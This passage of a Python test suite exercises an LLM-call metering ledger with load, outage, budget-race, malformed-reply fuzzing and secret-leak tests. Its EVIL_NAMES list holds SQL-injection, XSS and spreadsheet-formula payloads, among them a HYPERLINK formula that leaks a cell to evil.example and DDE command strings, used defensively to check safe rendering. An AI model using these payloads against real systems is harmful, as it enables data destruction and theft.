                       **extra}
            seen = call_sync(client, url, "openai", body, headers=headers, tag=str(seq))
            with load.lock:
                load.results.append((seq, phase, seen))
                good = seen.status == 200 and seen.complete
                load.ok += good
                if good and load.phase == "after" and phase == "after":
                    load.ok_after += 1
                if seen.status == 503 and load.phase == "down" and phase == "down":
                    load.refused_down += 1
                if load.ok >= before:
                    load.enough_before.set()
                if load.refused_down >= refusals:
                    load.enough_refused.set()
                if load.ok_after >= after:
                    load.enough_after.set()
            return seen

        def next_seq() -> int:
            with load.lock:
                load.seq += 1
                return load.seq

        def worker() -> None:
            while not load.stop.is_set():
                one(next_seq(), {})

        def gated_call() -> None:
            # Refused (a busy database can refuse a hold too)? Try again: it must be sent.
            for _ in range(100):
                if one(-next_seq(), {"x-reliability-gate": "1"}).sent:
                    return

        pool = [threading.Thread(target=worker, name=f"load-{i}") for i in range(threads)]
        gated_threads: list[threading.Thread] = []
        try:
            for t in pool:
                t.start()
            if not load.enough_before.wait(timeout):
                figures.problem("the load never got going")
            for _ in range(gated):
                gated_threads.append(threading.Thread(target=gated_call))
                gated_threads[-1].start()
            if not gate.wait_arrivals(gated, timeout):
                figures.problem("gated calls never reached the server")
            down_at = time.perf_counter()
            with load.lock:
                load.phase = "down"
            with interrupt():
                gate.opened.set()  # their settles now meet the unavailable database
                if refusals:
                    for t in gated_threads:
                        t.join(timeout)
                    if not load.enough_refused.wait(timeout):
                        figures.problem("no call was refused while the database was down")
                with load.lock:
                    load.phase = "restarting"
            with load.lock:
                load.phase = "after"
            figures.extra["outage_seconds"] = round(time.perf_counter() - down_at, 2)
            if not load.enough_after.wait(timeout):
                figures.problem("calls did not succeed again after the outage")
        finally:
            gate.opened.set()
            load.stop.set()
            for t in pool + gated_threads:
                t.join(timeout)
            client.close()
        received = {r.headers.get("x-reliability-seq") for r in sim.api_requests}
    figures.seconds = time.perf_counter() - start
    figures.extra["left_in_spool"] = len(book.spool.entries())
    figures.extra["spooled"] = len(spooled)
    figures.extra["replays"] = len(replayed)  # the ledger replays once a settle succeeds again
    book.replay()  # whatever is left (nothing, normally)
    if book.spool.exists():
        figures.problem("the spool was not emptied by the replay")
    _check_load(book, figures, load.results, received)
    figures.extra["gated"] = gated
    figures.extra["slowest_call_s"] = round(max(s.latency for _, _, s in load.results), 2)
    if refusals and figures.extra["spooled"] < gated:
        figures.problem(f"only {figures.extra['spooled']} calls spooled, want >= {gated}")
    if not refusals and (figures.refused or figures.extra["spooled"]):
        figures.problem(f"{figures.refused} refused and {figures.extra['spooled']} spooled "
                        "while the database was only slow")
    audit(book, figures, clock)
    state = book.budget(project)
    if state.limit is not None and state.spent > state.limit:
        figures.overspend = state.spent - state.limit
    return figures


def _count_calls(obj: Any, method: str) -> list[None]:
    """Count the calls of ``obj.method`` from now on (one list item per call)."""
    calls: list[None] = []
    real = getattr(obj, method)

    def counted(*args: Any, **kwargs: Any) -> Any:
        calls.append(None)
        return real(*args, **kwargs)

    setattr(obj, method, counted)
    return calls


def _check_load(book: Ledger, figures: Figures, results: list[tuple[int, str, Seen]],
                received: set[str | None]) -> None:
    rows = {r["call_id"]: r for r in event_rows(book)}
    figures.calls = len(results)
    for seq, phase, seen in results:
        sent = str(seq) in received
        kind = seen.kind()
        if kind == "refused":
            figures.refused += 1
            figures.extra[f"refused_{phase}"] = figures.extra.get(f"refused_{phase}", 0) + 1
            if sent:
                figures.problem(f"call {seq} was refused ({seen.status}) but reached the server")
            continue
        figures.admitted += 1
        if kind == "failed":
            figures.failed += 1
        if not sent:
            figures.problem(f"call {seq} ({kind}, status {seen.status}) never reached the server")
        if kind != "ok-exact":
            figures.problem(f"call {seq}: the server answered but the caller saw {kind} "
                            f"(status {seen.status}, {seen.exception})")
            continue
        problem = check_event(seen, rows.get(seen.call_id))
        if problem:
            figures.usage_lost += 1
            figures.problem(problem)


# -- 3. races -------------------------------------------------------------------------------------


def _race_process(url: str, base_url: str, project: str, seed: int, threads: int, calls: int,
                  with_max_tokens: bool, default_max_tokens: int, send_default_cap: bool,
                  spool: str, out: Any) -> None:
    """One of the racing processes: ``threads`` threads making metered calls, sync httpx,
    half of them streamed."""
    try:
        book = Ledger(url, replay_spool=False, default_max_tokens=default_max_tokens,
                      send_default_cap=send_default_cap, spool_path=spool)
        client = book.httpx_client(project, timeout=120)
        seen_all: list[dict[str, Any]] = []
        lock = threading.Lock()
        go = threading.Barrier(threads)

        def run(tid: int) -> None:
            rnd = random.Random(seed * 1000 + tid)
            go.wait()
            for i in range(calls):
                body = request_body("openai", stream=rnd.random() < 0.5,
                                    max_tokens=rnd.randint(20, 1500) if with_max_tokens else None)
                seen = call_sync(client, base_url + PATHS["openai"], "openai", body,
                                 tag=f"{seed}.{tid}.{i}")
                with lock:
                    seen_all.append(asdict(seen))

        pool = [threading.Thread(target=run, args=(t,)) for t in range(threads)]
        for t in pool:
            t.start()
        for t in pool:
            t.join()
        client.close()
        book.close()
        out.put(("ok", seen_all))
    except BaseException:  # report it to the parent rather than hang it
        out.put(("error", traceback.format_exc()))


def race_suite(url: str, *, with_max_tokens: bool, reply_tokens: int | None = None,
               processes: int = 4, threads: int = 8, calls: int = 6,
               limit: Decimal | None = None, default_max_tokens: int = 4096,
               send_default_cap: bool = True, spool_dir: Path | None = None) -> Figures:
    """``processes`` × ``threads`` metered calls against one hard budget.

    The server answers ``reply_tokens`` words (default: twice the default cap), cut at the
    ``max_tokens`` of the request it receives. With ``max_tokens`` the hold covers every reply
    and overspend must be zero. Without it the ledger holds ``default_max_tokens`` and, by
    default, sends that cap with the call: again zero. With ``send_default_cap=False`` the call
    goes uncapped and a longer reply overshoots its hold: overspend is at most
    (calls in flight) × (reply − default cap) × price, the reported bound.
    """
    suite = "race, max_tokens set" if with_max_tokens else (
        "race, no max_tokens" + ("" if send_default_cap else ", default cap not sent"))
    if limit is None:  # small enough that the first wave of calls already contends
        limit = Decimal("0.50") if with_max_tokens else Decimal("2.00")
    figures = Figures(suite, backend_of(url))
    words = reply_tokens if reply_tokens is not None else 2 * default_max_tokens
    project = f"race-{os.getpid()}-{random.randrange(1 << 30):x}"
    spool_dir = spool_dir or Path(os.environ.get("TMPDIR", "/tmp"))
    start = time.perf_counter()
    with RunAPISimulator() as sim:
        sim.default = Behavior(reply=" ".join(["w"] * words))
        with Ledger(url, replay_spool=False, spool_path=spool_dir / "race.spool") as book:
            book.set_budget(project, limit)
        ctx = multiprocessing.get_context("spawn")
        out = ctx.Queue()
        procs = [ctx.Process(target=_race_process, args=(
            url, sim.base_url, project, p, threads, calls, with_max_tokens, default_max_tokens,
            send_default_cap, str(spool_dir / f"race-{p}.spool"), out))
            for p in range(processes)]
        for p in procs:
            p.start()
        seen: list[Seen] = []
        try:
            for _ in procs:
                status, payload = out.get(timeout=600)
                if status != "ok":
                    figures.problem(f"a racing process failed: {payload}")
                    continue
                seen.extend(Seen(**s) for s in payload)
        finally:
            for p in procs:
                p.join(timeout=60)
                if p.is_alive():
                    p.kill()
        server_calls = sim.request_count
    figures.seconds = time.perf_counter() - start
    figures.calls = len(seen)
    with Ledger(url, replay_spool=False, spool_path=spool_dir / "race.spool",
                clock=_restart_clock()) as book:
        rows = {r["call_id"]: r for r in event_rows(book, events.c.project == project)}
        admitted = [s for s in seen if s.sent]
        figures.admitted = len(admitted)
        figures.refused = sum(1 for s in seen if s.refused == "budget_exceeded")
        figures.failed = sum(1 for s in admitted if s.kind() == "failed")
        other = [s for s in seen if s.refused not in (None, "budget_exceeded")]
        for s in other[:5]:
            figures.problem(f"refused for another reason: {s.refused} ({s.status})")
        if server_calls != figures.admitted:
            figures.problem(f"the server saw {server_calls} calls, {figures.admitted} admitted")
        total = Decimal(0)
        for s in admitted:
            if s.kind() != "ok-exact":
                figures.problem(f"admitted call {s.tag} not a clean success: {s}")
                continue
            problem = check_event(s, rows.get(s.call_id))
            if problem:
                figures.usage_lost += 1
                figures.problem(problem)
            assert s.usage is not None
            total += cost(*s.usage)
        state = book.budget(project, month_of(datetime.now(UTC)))
        if state.spent != total:
            figures.problem(f"spend {state.spent} != sum of admitted calls {total}")
        figures.overspend = max(Decimal(0), state.spent - limit)
        cap = default_max_tokens
        figures.extra.update({
            "limit": limit, "spent": state.spent, "reply_tokens": words, "default_cap": cap,
            "overspend_bound": processes * threads * max(0, words - cap) * PRICE / 1000
            if not (with_max_tokens or send_default_cap) else Decimal(0),
            "refused_events": sum(1 for r in rows.values() if r["status"] == "refused"),
        })
        if figures.refused == 0:
            figures.problem("the budget was never contended: the race proves nothing")
        if figures.extra["refused_events"] != figures.refused:
            figures.problem("refusals and refused events disagree")
        if figures.overspend > figures.extra["overspend_bound"]:
            figures.problem(f"overspend {figures.overspend} above the bound "
                            f"{figures.extra['overspend_bound']}")
        audit(book, figures)
    return figures


# -- 4. hostile input -----------------------------------------------------------------------------

Expect = Literal["ok-exact", "ok-estimated", "ok", "failed", "cancelled", "any"]


@dataclass
class HostileCase:
    """One generated reply: what the server sends and what the ledger must make of it."""

    kind: str
    shape: Shape
    stream: bool
    status: int
    content_type: str | None
    chunks: list[bytes]
    expect: Expect
    usage: tuple[int, int] | None = None
    include_usage: bool = True
    content_encoding: str | None = None
    fail_after: int | None = None
    close_after: int | None = None

    @property
    def body(self) -> bytes:
        return b"".join(self.chunks)


_BAD_COUNTS: list[Any] = [-1, -(10 ** 9), 1.5, 2.0, "12", True, None, [], {}, {"n": 1},
                          MAX_TOKENS + 1, 10 ** 30, 2 ** 63, 1e308, "NaN", float("inf")]


def _bad_count(rnd: random.Random) -> Any:
    return rnd.choice(_BAD_COUNTS)


def _usage_obj(shape: Shape, p: Any, c: Any) -> dict[str, Any]:
    if shape == "openai":
        return {"prompt_tokens": p, "completion_tokens": c,
                "total_tokens": p + c if isinstance(p, int) and isinstance(c, int) else 0}
    return {"input_tokens": p, "output_tokens": c}


def _dumps(obj: Any) -> bytes:
    return json.dumps(obj, allow_nan=True).encode()


def _text(rnd: random.Random, n: int) -> str:
    alphabet = "abc xyz ÿ€中🙂\\\"\n\t<>&'=+-@"
    return "".join(rnd.choice(alphabet) for _ in range(n))


def _json_reply(shape: Shape, text_: str, usage: dict[str, Any] | None) -> dict[str, Any]:
    if shape == "openai":
        obj: dict[str, Any] = {"id": "chatcmpl-h", "object": "chat.completion", "model": MODEL,
                               "choices": [{"index": 0, "finish_reason": "stop", "message": {
                                   "role": "assistant", "content": text_}}]}
    else:
        obj = {"id": "msg_h", "type": "message", "role": "assistant", "model": MODEL,
               "content": [{"type": "text", "text": text_}], "stop_reason": "end_turn"}
    if usage is not None:
        obj["usage"] = usage
    return obj


def _sse_events(shape: Shape, pieces: list[str], usage: dict[str, Any] | None,
                include_usage: bool) -> tuple[list[bytes], int]:
    """A stream's events and the index of its end event."""
    out: list[bytes] = []
    if shape == "openai":
        def chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
            return b"data: " + _dumps({"id": "c", "object": "chat.completion.chunk",
                                       "choices": [{"index": 0, "delta": delta,
                                                    "finish_reason": finish}]}) + b"\n\n"
        out.append(chunk({"role": "assistant", "content": ""}))
        out.extend(chunk({"content": p}) for p in pieces)
        out.append(chunk({}, "stop"))
        if include_usage and usage is not None:
            out.append(b"data: " + _dumps({"id": "c", "object": "chat.completion.chunk",
                                           "choices": [], "usage": usage}) + b"\n\n")
        out.append(b"data: [DONE]\n\n")
        return out, len(out) - 1

    def ev(name: str, data: dict[str, Any]) -> bytes:
        return b"event: " + name.encode() + b"\ndata: " + _dumps(data) + b"\n\n"

    start_usage = {"input_tokens": usage.get("input_tokens"), "output_tokens": 1} if usage else None
    message: dict[str, Any] = {"id": "msg_h", "type": "message", "role": "assistant",
                               "model": MODEL, "content": []}
    if start_usage is not None:
        message["usage"] = start_usage
    out.append(ev("message_start", {"type": "message_start", "message": message}))
    out.append(ev("content_block_start", {"type": "content_block_start", "index": 0,
                                          "content_block": {"type": "text", "text": ""}}))
    out.append(ev("ping", {"type": "ping"}))
    out.extend(ev("content_block_delta", {"type": "content_block_delta", "index": 0,
                                          "delta": {"type": "text_delta", "text": p}})
               for p in pieces)
    out.append(ev("content_block_stop", {"type": "content_block_stop", "index": 0}))
    delta: dict[str, Any] = {"type": "message_delta", "delta": {"stop_reason": "end_turn"}}
    if usage is not None:
        delta["usage"] = {"output_tokens": usage.get("output_tokens")}
    out.append(ev("message_delta", delta))
    out.append(ev("message_stop", {"type": "message_stop"}))
    return out, len(out) - 1


def _error_event(shape: Shape) -> bytes:
    if shape == "openai":
        return b'data: {"error": {"message": "overloaded", "type": "server_error"}}\n\n'
    return (b'event: error\ndata: {"type": "error", "error": {"type": "overloaded_error", '
            b'"message": "Overloaded"}}\n\n')


def _split(rnd: random.Random, data: bytes) -> list[bytes]:
    """Cut bytes at random places (inside UTF-8 sequences, between CR and LF...)."""
    if not data:
        return [b""] if rnd.random() < 0.5 else []
    n = rnd.choice((1, 1, 2, 3, 5, 17, 64))
    cuts = sorted(rnd.sample(range(1, len(data)), min(n - 1, len(data) - 1))) if len(data) > 1 else []
    out, prev = [], 0
    for cut in [*cuts, len(data)]:
        out.append(data[prev:cut])
        prev = cut
    return out


def _valid_usage(rnd: random.Random) -> tuple[int, int]:
    roll = rnd.random()
    if roll < 0.05:
        return rnd.randint(1, 50), 0
    if roll < 0.1:
        return rnd.randint(MAX_TOKENS // 2, MAX_TOKENS), rnd.randint(0, MAX_TOKENS)
    return rnd.randint(1, 5000), rnd.randint(0, 5000)


def _hostile_json(rnd: random.Random, shape: Shape, huge: bool) -> HostileCase:
    p, c = _valid_usage(rnd)
    kind = rnd.choice(("valid", "valid", "no-usage", "bad-usage", "truncated", "non-utf8",
                       "garbage", "empty", "nested", "long-number", "gzip", "bad-gzip",
                       "wrong-type", "huge-line", "error-status", "cached-gt-prompt",
                       "zero-usage"))
    if huge:
        kind = "huge-line"
    elif kind == "huge-line":
        kind = "valid"
    text_ = _text(rnd, rnd.randint(0, 200))
    ctype: str | None = rnd.choice(("application/json", "application/json; charset=utf-8",
                                    "application/json", None, "text/plain"))
    status, encoding = rnd.choice((200, 200, 200, 201)), None
    usage: tuple[int, int] | None = None
    expect: Expect
    if kind == "valid":
        body, expect, usage = _dumps(_json_reply(shape, text_, _usage_obj(shape, p, c))), "ok-exact", (p, c)
    elif kind == "no-usage":
        body, expect = _dumps(_json_reply(shape, text_, None)), "ok-estimated"
    elif kind == "bad-usage":
        bad = _usage_obj(shape, *(rnd.choice(((_bad_count(rnd), c), (p, _bad_count(rnd)),
                                              (_bad_count(rnd), _bad_count(rnd))))))
        body, expect = _dumps(_json_reply(shape, text_, bad)), "ok-estimated"
    elif kind == "zero-usage":  # a success that says it used nothing: not believed
        body = _dumps(_json_reply(shape, text_, _usage_obj(shape, 0, 0)))
        expect = "ok"
    elif kind == "cached-gt-prompt":
        usage_obj = (_usage_obj(shape, p, c) | {"prompt_tokens_details": {"cached_tokens": p + 1}}
                     if shape == "openai" else
                     {"input_tokens": p, "output_tokens": c, "cache_read_input_tokens": -5})
        # Issue 9 item 9: the impossible detail is dropped (noted); the valid counts stand.
        body, expect, usage = _dumps(_json_reply(shape, text_, usage_obj)), "ok-exact", (p, c)
    elif kind == "truncated":
        full = _dumps(_json_reply(shape, text_, _usage_obj(shape, p, c)))
        body, expect = full[:rnd.randrange(1, len(full))], "ok-estimated"
    elif kind == "non-utf8":
        full = _dumps(_json_reply(shape, text_, _usage_obj(shape, p, c)))
        at = full.index(b'"model"')
        body, expect = full[:at] + bytes([0xff, 0xfe, 0xc3]) + full[at:], "ok-estimated"
    elif kind == "garbage":
        body, expect = rnd.randbytes(rnd.randint(1, 3000)), "ok"
    elif kind == "empty":
        body, expect = rnd.choice((b"", b"   ", b"\n", b"null", b"[]", b'"usage"', b"0")), "ok-estimated"
    elif kind == "nested":
        depth = rnd.choice((100, 5000, 200_000))
        body, expect = b'{"usage": ' + b"[" * depth + b"]" * depth + b"}", "ok-estimated"
    elif kind == "long-number":
        digits = b"9" * rnd.choice((30, 5000, 50_000))
        body = b'{"usage": {"prompt_tokens": ' + digits + b', "completion_tokens": 1, ' \
               b'"input_tokens": ' + digits + b', "output_tokens": 1}}'
        expect = "ok-estimated"
    elif kind == "gzip":
        body = gzip.compress(_dumps(_json_reply(shape, text_, _usage_obj(shape, p, c))))
        encoding, expect, usage = "gzip", "ok-exact", (p, c)
    elif kind == "bad-gzip":
        body, encoding, expect = rnd.randbytes(200), rnd.choice(("gzip", "br", "zstd")), "ok"
    elif kind == "wrong-type":
        body = _dumps(rnd.choice(([1, 2, 3], "a string", 42, None,
                                  {"usage": "lots"}, {"usage": [p, c]})))
        expect = "ok-estimated"
    elif kind == "huge-line":
        big = _text(rnd, 1000) * rnd.choice((100, 1000, 2000))
        body = _dumps(_json_reply(shape, big, _usage_obj(shape, p, c)))
        expect, usage = "ok-exact", (p, c)
    else:  # error-status
        status = rnd.choice((400, 401, 403, 404, 408, 429, 500, 502, 503, 529, 599))
        body = rnd.choice((_dumps({"error": {"message": _text(rnd, 50)}}),
                           rnd.randbytes(100), b"", _dumps(_json_reply(shape, "x", _usage_obj(shape, p, c)))))
        expect = "failed"
    chunks = _split(rnd, body)
    case = HostileCase(f"json/{kind}", shape, False, status, ctype, chunks, expect, usage,
                       content_encoding=encoding)
    if status < 400 and rnd.random() < 0.05 and len(chunks) > 1:
        case.fail_after, case.expect, case.usage = rnd.randrange(len(chunks)), "failed", None
    return case


def _hostile_stream(rnd: random.Random, shape: Shape, huge: bool) -> HostileCase:
    p, c = _valid_usage(rnd)
    include_usage = shape == "anthropic" or rnd.random() < 0.9
    kind = rnd.choice(("valid", "valid", "bad-usage", "no-usage", "truncated", "mid-event",
                       "error-event", "garbled-event", "non-utf8", "crlf", "cr", "comments",
                       "bom", "after-end", "random", "huge-line", "error-status", "cancel",
                       "json-content-type", "double-usage"))
    if huge:
        kind = "huge-line"
    elif kind == "huge-line":
        kind = "valid"
    pieces = [_text(rnd, rnd.randint(0, 12)) for _ in range(rnd.randint(0, 12))]
    usage_obj: dict[str, Any] | None = _usage_obj(shape, p, c)
    expect: Expect = "ok-exact" if include_usage else "ok-estimated"
    usage: tuple[int, int] | None = (p, c) if include_usage else None
    status, ctype = 200, rnd.choice(("text/event-stream", "text/event-stream; charset=utf-8",
                                     "TEXT/EVENT-STREAM", None))
    close_after = None
    if kind == "bad-usage":
        usage_obj = _usage_obj(shape, *(rnd.choice(((_bad_count(rnd), c), (p, _bad_count(rnd))))))
        # Anthropic's message_start says output_tokens 1: a bad final count may leave that.
        expect, usage = ("ok-estimated" if shape == "openai" else "ok"), None
    elif kind == "no-usage":
        usage_obj, expect, usage = None, "ok-estimated", None
    elif kind == "huge-line":
        pieces.append(_text(rnd, 1000) * rnd.choice((100, 1000)))
    evs, end = _sse_events(shape, pieces, usage_obj, include_usage)
    if kind == "double-usage" and shape == "openai" and include_usage:
        evs.insert(end, b"data: " + _dumps({"choices": [], "usage": _usage_obj(shape, p + 1, c)})
                   + b"\n\n")
        expect, usage = "ok", None
    elif kind == "truncated":  # up to, not including, the end event (even after the usage)
        evs, expect, usage = evs[:rnd.randint(0, end)], "failed", None
    elif kind == "mid-event":
        cut = rnd.randrange(0, end + 1)
        part = evs[cut][:rnd.randrange(1, max(2, len(evs[cut]) - 2))]
        evs, expect, usage = [*evs[:cut], part], "failed", None
    elif kind == "error-event":
        evs, expect, usage = [*evs[:rnd.randrange(0, end)], _error_event(shape)], "failed", None
        if rnd.random() < 0.5:
            evs.append(b"data: [DONE]\n\n" if shape == "openai"
                       else b'event: message_stop\ndata: {"type": "message_stop"}\n\n')
    elif kind == "garbled-event":
        evs.insert(rnd.randrange(1, end), rnd.choice((b'data: {"choices": [{"de\n\n',
                                                      b"data: \xff\xfe{]\n\n", b"data:\n\n",
                                                      b"event: content_block_delta\ndata: nope\n\n")))
        expect, usage = "ok", None
    elif kind == "non-utf8":
        evs.insert(rnd.randrange(1, end), b"data: {\"x\": \"\xc3\x28\xa0\xa1\"}\n\n")
        expect, usage = "ok", None
    elif kind == "crlf":
        evs = [e.replace(b"\n", b"\r\n") for e in evs]
    elif kind == "cr":
        evs = [e.replace(b"\n", b"\r") for e in evs]
    elif kind == "comments":
        evs = [b": keep-alive\nid: 7\nretry: 100\n" + e for e in evs]
    elif kind == "bom":
        evs[0] = b"\xef\xbb\xbf" + evs[0]
    elif kind == "after-end":
        evs.append(rnd.randbytes(rnd.randint(1, 500)))
    elif kind == "random":
        evs, expect, usage = [rnd.randbytes(rnd.randint(0, 4000))], "any", None
    elif kind == "error-status":
        status = rnd.choice((400, 429, 500, 503, 529))
        expect, usage = "failed", None
    elif kind == "json-content-type":
        ctype, expect, usage = "application/json", "ok", None
    elif kind == "cancel":
        close_after = 1
        # (Not with a usage chunk to drop: the ledger then hands on whole events only, so
        # the caller's first chunk is not the server's.)
        if not include_usage:
            include_usage, expect, usage = True, "ok-exact", (p, c)
            evs, end = _sse_events(shape, pieces, usage_obj, include_usage)
    body = b"".join(evs)
    chunks = _split(rnd, body)
    if kind == "cancel":  # the caller reads one chunk, cut before the end event, and closes
        cut = rnd.randint(1, len(b"".join(evs[:end])))
        chunks, expect, usage = [body[:cut], body[cut:]], "cancelled", None
    case = HostileCase(f"sse/{kind}", shape, True, status, ctype, chunks, expect, usage,
                       include_usage=include_usage, close_after=close_after)
    if not include_usage and expect == "ok-exact":
        case.expect = "ok-estimated"
    if status < 400 and kind != "cancel" and rnd.random() < 0.05 and len(chunks) > 1:
        case.fail_after = rnd.randrange(len(chunks))
        before = StreamOracle(shape)
        before.feed(b"".join(chunks[:case.fail_after]))
        # A break after the end event changes nothing: the call was settled at that event.
        if kind == "json-content-type" or not (before.done or before.error):
            case.expect, case.usage = "failed", None
    return case


def hostile_cases(seed: int, n: int, *, huge_every: int = 500) -> Iterator[HostileCase]:
    """``n`` generated replies, deterministic for a seed: half JSON bodies, half SSE streams,
    both shapes, with malformed JSON, truncations, bad and absurd token counts, non-UTF-8
    bytes, huge lines (one case in ``huge_every``), error events and statuses, broken
    transports and callers closing early."""
    rnd = random.Random(seed)
    for i in range(n):
        shape: Shape = "openai" if rnd.random() < 0.5 else "anthropic"
        huge = huge_every > 0 and i % huge_every == huge_every - 1
        if rnd.random() < 0.5:
            yield _hostile_json(rnd, shape, huge)
        else:
            yield _hostile_stream(rnd, shape, huge)


class _Injected(httpx.ReadError):
    """The transport error a hostile case raises mid-body (must reach the caller as is)."""


class _Chunks(httpx.SyncByteStream):
    def __init__(self, case: HostileCase, error: BaseException) -> None:
        self.case, self.error = case, error

    def __iter__(self) -> Iterator[bytes]:
        for i, chunk in enumerate(self.case.chunks):
            if self.case.fail_after is not None and i == self.case.fail_after:
                raise self.error
            yield chunk

    def close(self) -> None:
        pass


def _hostile_request(case: HostileCase) -> dict[str, Any]:
    body = request_body(case.shape, stream=case.stream, max_tokens=500)
    if case.stream and case.shape == "openai" and not case.include_usage:
        body.pop("stream_options")
    return body


def _judge(case: HostileCase, row: Mapping[str, Any] | None, figures: Figures, where: str) -> None:
    if row is None:
        figures.problem(f"{where}: no event")
        figures.usage_lost += 1
        return
    amount, status = from_units(row["cost"]), row["status"]
    if amount < 0 or row["prompt_tokens"] < 0 or row["completion_tokens"] < 0:
        figures.problem(f"{where}: negative amount stored ({row})")
    if status == "failed":
        figures.failed += 1
    ok = {"ok-exact": status == "ok" and not row["estimated"] and case.usage is not None
                      and amount == cost(*case.usage),
          "ok-estimated": status == "ok" and row["estimated"] and amount > 0,
          "ok": status == "ok" and amount > 0,
          "failed": status == "failed" and amount == 0,
          "cancelled": status == "cancelled" and amount > 0,
          "any": (status == "failed" and amount == 0) or (status in ("ok", "cancelled")
                                                          and amount > 0)}[case.expect]
    if status in ("ok", "cancelled") and amount <= 0:
        figures.problem(f"{where}: a success recorded at $0")
    if not ok:
        figures.problem(f"{where}: want {case.expect} {case.usage}, recorded {status} "
                        f"estimated={row['estimated']} at {amount} "
                        f"({row['prompt_tokens']}+{row['completion_tokens']} tokens)")


def hostile_suite(book: Ledger, *, n: int = 10_000, loopback: int = 300, seed: int = 1,
                  huge_every: int = 500) -> Figures:
    """Feed ``n`` generated replies through the real metered transport (most through an
    ``httpx.MockTransport``, ``loopback`` of them over real loopback HTTP from the simulator):
    the caller gets every byte the server sent and no exception but the server's own; each
    call is recorded once, never a success at $0, never a negative amount."""
    figures = Figures("hostile", backend_of(book.url))
    kinds: Counter[str] = Counter()
    start = time.perf_counter()
    cases = list(hostile_cases(seed, n + loopback, huge_every=huge_every))
    current: list[HostileCase] = []
    loopback_calls = 0
    injected = _Injected("injected by the test server")

    def handler(request: httpx.Request) -> httpx.Response:
        case = current[0]
        headers = [] if case.content_type is None else [("content-type", case.content_type)]
        if case.content_encoding:
            headers.append(("content-encoding", case.content_encoding))
        return httpx.Response(case.status, headers=headers, stream=_Chunks(case, injected))

    mock = httpx.Client(transport=MeteredTransport(book, "hostile",
                                                   wrapped=httpx.MockTransport(handler)))
    with RunAPISimulator() as sim, book.httpx_client("hostile", timeout=60) as real:
        for i, case in enumerate(cases):
            over_loopback = i >= n
            if over_loopback:
                if case.fail_after is not None or case.close_after is not None:
                    continue  # a broken transport or an early close is not a body to send
                loopback_calls += 1
                sim.enqueue(Behavior(
                    status=case.status, raw=case.body, content_type=case.content_type,
                    headers=(() if case.content_encoding is None
                             else (("content-encoding", case.content_encoding),)),
                    retry_after=None))
            current[:] = [case]
            project = f"h{i}"
            kinds[case.kind] += 1
            figures.calls += 1
            got: list[bytes] = []
            call_id: str | None = None
            error: BaseException | None = None
            client, base = (real, sim.base_url) if over_loopback else (mock, "http://runapi.test")
            try:
                with client.stream("POST", base + PATHS[case.shape], json=_hostile_request(case),
                                   headers={"x-ledger-project": project}) as r:
                    call_id = r.headers.get(CALL_ID_HEADER)
                    if r.headers.get("x-ledger-refused"):
                        figures.refused += 1
                        figures.problem(f"{case.kind} #{i}: refused {r.headers['x-ledger-refused']}")
                    for k, chunk in enumerate(r.iter_raw(), 1):
                        got.append(chunk)
                        if case.close_after is not None and k >= case.close_after:
                            break
            except Exception as exc:  # the point: which exceptions reach the caller
                error = exc
            where = f"{case.kind} #{i} (seed {seed})"
            if error is not None and error is not injected:
                figures.problem(f"{where}: the caller got {type(error).__name__}: {error}")
            if error is None and case.fail_after is not None:
                figures.problem(f"{where}: the transport error did not reach the caller")
            drops = case.stream and case.shape == "openai" and not case.include_usage
            if (error is None and case.close_after is None and not drops
                    and b"".join(got) != case.body):
                figures.problem(f"{where}: the caller did not get the server's bytes unchanged")
            figures.admitted += 1
            rows = event_rows(book, events.c.project == project)
            if len(rows) > 1:
                figures.charged_twice += 1
                figures.problem(f"{where}: recorded {len(rows)} times")
            if call_id is not None and rows and rows[0]["call_id"] != call_id:
                figures.problem(f"{where}: the event is not the call's")
            _judge(case, rows[0] if rows else None, figures, where)
    mock.close()
    figures.seconds = time.perf_counter() - start
    figures.extra["inputs"] = figures.calls
    figures.extra["over_loopback"] = loopback_calls
    figures.extra["kinds"] = len(kinds)
    figures.extra["by_kind"] = dict(sorted(kinds.items()))
    audit(book, figures, book.clock if isinstance(book.clock, ManualClock) else None)
    return figures


# -- 5. secrets and hostile names -----------------------------------------------------------------

#: Project and model names full of SQL, HTML and spreadsheet-formula characters.
EVIL_NAMES = (
    "acme'; DROP TABLE events; --",
    "Robert'); DELETE FROM totals WHERE ('1'='1",
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>&amp;",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "％ ＝1+1 full-width",
    "＝SUM(A1)",
    "naïve «ünïcödé» 中文 🙂",
    "back\\slash \"quote\" 'single' `tick` ${x} %s %n {0}",
    "line\nbreak",
    "comma, separated; semi",
)


def _secret_fragments(key: str) -> list[str]:
    return [key, key[3:], key[-16:]]


def security_suite(url: str, workdir: Path, *, sqlite_path: str | None = None) -> Figures:
    """Metered calls (ok, streamed, failed with the key echoed by the server, refused,
    spooled) with an API key in the headers; names full of SQL, HTML and formula characters.
    Counts secret occurrences in every table, the database files and the spool, and checks the
    names come back literally and render safely in HTML and CSV invoices."""
    import io

    from ..render import csv as render_csv
    from ..render import html as render_html

    figures = Figures("security", backend_of(url))
    clock = ManualClock(datetime(2026, 11, 10, 12, tzinfo=UTC))
    spool = workdir / "security.spool"
    start = time.perf_counter()
    with Ledger(url, clock=clock, spool_path=spool) as book, RunAPISimulator() as sim:
        auth = {"authorization": f"Bearer {FAKE_API_KEY}", "x-api-key": FAKE_API_KEY,
                "api-key": FAKE_API_KEY}
        seen: list[Seen] = []
        for name in EVIL_NAMES:
            book.set_price(name, Decimal("0.020"))
        for i, project in enumerate(EVIL_NAMES):
            model = EVIL_NAMES[(i + 3) % len(EVIL_NAMES)]
            shape: Shape = "openai" if i % 2 == 0 else "anthropic"
            with book.httpx_client(project) as client:
                for stream in (False, True):
                    seen.append(call_sync(client, sim.base_url + PATHS[shape], shape,
                                          request_body(shape, model=model, stream=stream),
                                          headers=auth, tag=f"{project}|{model}"))
        with book.httpx2_client("secrets") as client2:
            url_ = sim.base_url + PATHS["openai"]
            body = request_body("openai")
            sim.enqueue(Behavior(status=401, error_message=f"Incorrect API key provided: {FAKE_API_KEY}"),
                        Behavior(error_event=True, error_message=f"bad key {FAKE_API_KEY}"))
            seen.append(call_sync(client2, url_, "openai", body, headers=auth, tag="401-echo"))
            seen.append(call_sync(client2, url_, "openai", request_body("openai", stream=True),
                                  headers=auth, tag="error-event-echo"))
